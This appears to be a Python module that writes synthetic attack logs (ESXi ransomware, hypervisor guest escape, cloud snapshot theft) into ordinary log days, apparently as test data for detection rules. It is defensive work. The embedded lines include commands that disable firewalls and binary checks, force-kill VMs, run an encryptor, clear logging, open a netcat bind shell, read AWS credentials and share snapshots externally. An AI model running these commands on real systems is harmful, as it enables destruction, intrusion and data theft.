"""The attacks of sample_logs/ that rules and correlations find, hidden in ordinary days. Written by sample_logs.py."""

from __future__ import annotations

import random
from datetime import datetime, timedelta

from .benign import UUIDS, VMS, cloud_day, esxi_day, kvm_day, vcenter_day
from .lines import (
    Line,
    at,
    audit,
    audit_record,
    cloudtrail,
    esxi,
    execve,
    hostd_event,
    libvirtd,
    shell,
    sshd,
    sso,
    vcenter_event,
    virt_control,
    virt_disk,
    vobd,
)

HOSTS = ("esx01", "esx02", "esx03")
FLEET = tuple(f"vdi{number:02d}" for number in range(1, 13))  # machines that only the ransomware meets
ATTACKER = "203.0.113.66"
Files = dict[str, list[Line]]


def ransomware() -> Files:
    """A stolen vCenter account from outside, SSH switched on, lockdown and firewall off, VMs listed, all killed, the files encrypted."""
    rng, day = random.Random(2), "2026-03-04"
    manager = [*vcenter_day(rng, day, HOSTS, 400)]
    hosts = [*esxi_day(rng, day, HOSTS, 1200)]
    who = "VSPHERE.LOCAL\\svc-backup"
    start = at(day, "02:10:00")
    manager += [
        sso(
            start, "LoginFailure", "svc-backup@vsphere.local", ATTACKER,
            f"User svc-backup@vsphere.local@{ATTACKER} failed to log in with response code 401",
        ),
        sso(
            start + timedelta(seconds=40), "LoginSuccess", "svc-backup@vsphere.local", ATTACKER,
            f"User svc-backup@vsphere.local@{ATTACKER} logged in with response code 200",
        ),
        vcenter_event(
            start + timedelta(seconds=41), 700100, "UserLoginSessionEvent", who, f"User {who}@{ATTACKER} logged in as Mozilla/5.0", ""
        ),
        vcenter_event(
            start + timedelta(seconds=90), 700110, "PermissionAddedEvent", who,
            "Permission created for VSPHERE.LOCAL\\support on Datacenters, role is Admin, propagation is Enabled",
        ),
    ]
    for index, host in enumerate(HOSTS):
        base = start + timedelta(minutes=5 + 8 * index)
        number = 88000 + 100 * index
        hosts += [
            vobd(base, host, "esx.audit.lockdownmode.disabled", "Administrator access to the host has been enabled."),
            audit_record(
                base + timedelta(seconds=20), host, "service.start", subject="vpxuser", object="TSM-SSH", result="success",
                opID=f"lro-{number:x}",
            ),
            hostd_event(base + timedelta(seconds=21), host, number, "SSH access has been enabled.", f"vpxuser:{who}"),
            esxi(
                base + timedelta(seconds=60), host, f"sshd[{2103000 + index}]",
                f"Accepted keyboard-interactive/pam for root from {ATTACKER} port 5102{index} ssh2", 38,
            ),
            shell(base + timedelta(seconds=75), host, "root", "esxcli system settings advanced set -o /User/execInstalledOnly -i 0"),
            shell(base + timedelta(seconds=80), host, "root", "esxcli network firewall set --enabled false"),
            shell(base + timedelta(seconds=95), host, "root", "esxcli vm process list"),
            shell(base + timedelta(seconds=100), host, "root", "vim-cmd vmsvc/getallvms"),
            shell(base + timedelta(seconds=110), host, "root", "vim-cmd vmsvc/snapshot.removeall 12"),
        ]
        for step, vm in enumerate((*VMS[index::3], *FLEET[index::3])):
            time = base + timedelta(seconds=130 + 4 * step)
            hosts += [
                shell(time, host, "root", f"esxcli vm process kill --type=force --world-id={2110000 + step}"),
                audit_record(
                    time + timedelta(seconds=1), host, "vm.power.off", subject="root", object=f"/vmfs/volumes/ds01/{vm}/{vm}.vmx",
                    result="success",
                ),
            ]
            manager.append(
                vcenter_event(
                    time + timedelta(seconds=2), 700200 + 10 * index + step, "VmPoweredOffEvent", "root",
                    f"{vm} on {host} in DC1 is powered off",
                )
            )
        end = base + timedelta(seconds=180)
        hosts += [
            shell(end, host, "root", "chmod +x /tmp/encrypt"),
            shell(end + timedelta(seconds=5), host, "root", "nohup /tmp/encrypt /vmfs/volumes/ds01 &"),
            vobd(
                end + timedelta(seconds=6), host, "esx.audit.uw.security.execInstalledOnly.warning",
                "Untrusted binary /tmp/encrypt was executed by user root.",
            ),
            shell(end + timedelta(seconds=60), host, "root", "esxcli system syslog config set --loghost="),
        ]
    return {"vcenter.log": manager, "esxi.log": hosts}


def guest_escape() -> Files:
    """Signs of an escape on ESXi (denied hypercalls, vmx core, shell) and on KVM (QEMU crash, foreign disk, monitor command)."""
    rng, day = random.Random(3), "2026-03-05"
    hosts = [*esxi_day(rng, day, HOSTS, 1000)]
    records, daemon, auth = kvm_day(rng, day, "kvm01", 400)
    start = at(day, "13:20:00")
    vmx = "/vmfs/volumes/ds01/web02/web02.vmx"
    for step in range(6):
        hosts.append(
            audit_record(
                start + timedelta(seconds=7 * step), "esx02", "vm.hypercall.denied", subject="web02", object=vmx, result="failure",
                reason="not permitted", type="Backdoor", value=str(30 + step),
            )
        )
    hosts += [
        audit_record(
            start + timedelta(seconds=50), "esx02", "vm.guestrpc.denied", subject="web02", object=vmx, result="failure",
            reason="not permitted", name="unity.operation.request", value="1",
        ),
        vobd(
            start + timedelta(seconds=90), "esx02", "esx.problem.application.core.dumped",
            "An application (/bin/vmx) running on ESXi host has crashed (1 time(s) so far). "
            "A core file might have been created at /var/core/vmx-zdump.000.",
        ),
        audit_record(
            start + timedelta(seconds=200), "esx02", "shell.cmd", subject="root", object="shell", command="nc -l -p 4444 -e /bin/sh",
            result="success", status="0",
        ),
        vobd(
            start + timedelta(seconds=201), "esx02", "esx.audit.uw.security.execInstalledOnly.violation",
            "Execution of non-installed binary /tmp/.x detected and blocked.",
        ),
    ]
    kvm = at(day, "15:00:00")
    records += [
        audit_abend(kvm, 9001), virt_control(kvm + timedelta(milliseconds=200), 9002, "app02", UUIDS["app02"], "stop", "failed"),
        virt_disk(kvm + timedelta(minutes=3), 9010, "app02", UUIDS["app02"], "/dev/sdb", "attach"),
        execve(
            kvm + timedelta(minutes=4), 9020, 1000, "virsh", "qemu-monitor-command", "db01", "--hmp", "pmemsave 0 0x1000000 /tmp/m",
            exe="/usr/bin/virsh",
        ),
    ]
    daemon.append(
        libvirtd(
            kvm + timedelta(minutes=4, milliseconds=5), "warning", "qemuDomainObjTaintMsg:6344",
            f"Domain id=12 name='db01' uuid={UUIDS['db01']} is tainted: custom-monitor",
        )
    )
    auth += [
        sshd(kvm - timedelta(minutes=30) + timedelta(seconds=3 * i), "kvm01", f"Invalid user admin{i} from {ATTACKER} port {42000 + i}")
        for i in range(8)
    ]
    auth += [
        sshd(
            kvm - timedelta(minutes=30) + timedelta(seconds=3 * i + 1), "kvm01",
            f"Failed password for invalid user admin{i} from {ATTACKER} port {42000 + i} ssh2",
        )
        for i in range(8)
    ]
    auth.append(
        sshd(
            kvm - timedelta(minutes=29), "kvm01",
            f"error: maximum authentication attempts exceeded for root from {ATTACKER} port 42100 ssh2 [preauth]",
        )
    )
    return {"esxi.log": hosts, "kvm01-audit.log": records, "kvm01-libvirtd.log": daemon, "kvm01-auth.log": auth}


def audit_abend(time: datetime, serial: int) -> Line:
    """QEMU killed by a segmentation fault."""
    return audit(
        time, serial,
        "type=ANOM_ABEND msg={stamp}: auid=4294967295 uid=64055 gid=109 ses=4294967295 subj=libvirt-0c6cd11c pid=5123 "
        'comm="qemu-system-x86" exe="/usr/bin/qemu-system-x86_64" sig=11 res=1',
    )


def snapshot_theft() -> Files:
    """A key found on a KVM host is used in the cloud: logging stopped, snapshots shared with a foreign account, user data read."""
    rng, day = random.Random(4), "2026-03-06"
    cloud = [*cloud_day(rng, day, 500)]
    records, daemon, auth = kvm_day(rng, day, "kvm01", 300)
    start = at(day, "22:40:00")
    auth.append(sshd(start - timedelta(minutes=20), "kvm01", f"Accepted password for root from {ATTACKER} port 50111 ssh2"))
    records.append(execve(start - timedelta(minutes=18), 7001, 0, "cat", "/root/.aws/credentials", exe="/usr/bin/cat", key="secrets"))
    cloud += [
        cloudtrail(start, "GetCallerIdentity", "sts", "backup", ATTACKER, read_only=True),
        cloudtrail(
            start + timedelta(minutes=1), "StopLogging", "cloudtrail", "backup", ATTACKER,
            requestParameters={"name": "arn:aws:cloudtrail:eu-west-1:111122223333:trail/main"},
        ),
        cloudtrail(
            start + timedelta(minutes=2), "DeleteFlowLogs", "ec2", "backup", ATTACKER,
            requestParameters={"DeleteFlowLogsRequest": {"FlowLogId": {"tag": 1, "content": "fl-0aaaaaaaaaaaaaaaa"}}},
        ),
        cloudtrail(
            start + timedelta(minutes=3), "DescribeInstanceAttribute", "ec2", "backup", ATTACKER, read_only=True,
            requestParameters={"instanceId": "i-0bbbbbbbbbbbbbbbb", "attribute": "userData"},
        ),
        cloudtrail(
            start + timedelta(minutes=4), "CreateSnapshot", "ec2", "backup", ATTACKER,
            requestParameters={"volumeId": "vol-0cccccccccccccccc"},
            responseElements={"snapshotId": "snap-0dddddddddddddddd", "volumeId": "vol-0cccccccccccccccc"},
        ),
        cloudtrail(
            start + timedelta(minutes=6), "ModifySnapshotAttribute", "ec2", "backup", ATTACKER,
            requestParameters={
                "snapshotId": "snap-0dddddddddddddddd", "attributeType": "CREATE_VOLUME_PERMISSION",
                "createVolumePermission": {"add": {"items": [{"userId": "444455556666"}]}},
            },
            responseElements={"_return": True},
        ),
        cloudtrail(
            start + timedelta(minutes=7), "ModifyImageAttribute", "ec2", "backup", ATTACKER,
            requestParameters={
                "imageId": "ami-0eeeeeeeeeeeeeeee", "attributeType": "launchPermission",
                "launchPermission": {"add": {"items": [{"group": "all"}]}},
            },
            responseElements={"_return": True},
        ),
        cloudtrail(
            start + timedelta(minutes=9), "GetPasswordData", "ec2", "backup", ATTACKER, read_only=True,
            errorCode="Client.UnauthorizedOperation", errorMessage="You are not authorized to perform this operation.",
            requestParameters={"instanceId": "i-0bbbbbbbbbbbbbbbb"},
        ),
    ]
    return {"cloudtrail.ndjson": cloud, "kvm01-audit.log": records, "kvm01-libvirtd.log": daemon, "kvm01-auth.log": auth}


ATTACKS = {"ransomware": ransomware, "guest-escape": guest_escape, "snapshot-theft": snapshot_theft}
